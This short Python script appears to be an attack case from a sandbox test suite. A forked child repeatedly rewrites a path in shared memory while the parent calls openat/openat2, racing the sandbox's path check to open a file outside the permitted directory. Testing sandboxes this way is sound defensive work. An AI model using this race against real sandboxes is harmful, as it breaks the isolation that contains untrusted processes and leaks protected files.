# SPDX-License-Identifier: Apache-2.0
# attack: another process changes the path, in memory that both have, while the call is looked at
# class: processes
# wins: leak
# needs: race
# options: --process fork
from kit import *

good, bad = os.fsencode(BOX) + b'/twin.txt', os.fsencode(OUT) + b'/twin.txt'
at = [i for i in range(len(good)) if good[i] != bad[i]][0]
shared = page(4096, 3, 0x21)
ctypes.memmove(shared, good + b'\0', len(good) + 1)
stop = ctypes.c_uint64(0)
flip = function(FLIP, ctypes.c_void_p, ctypes.c_uint64, ctypes.c_void_p, ctypes.c_uint64)
child = os.fork()
if child == 0:
    flip(shared + at, good[at] ^ bad[at], address(stop), 0xff)
tried()
how = struct.pack('<QQQ', 0, 0, 0)


def one(i):
    fd = sc('openat2', AT_FDCWD, shared, how, 24) if i & 1 else sc('openat', AT_FDCWD, shared, 0, 0)
    return took(fd) and NATIVE


rounds(one)
sc('kill', child, 9)
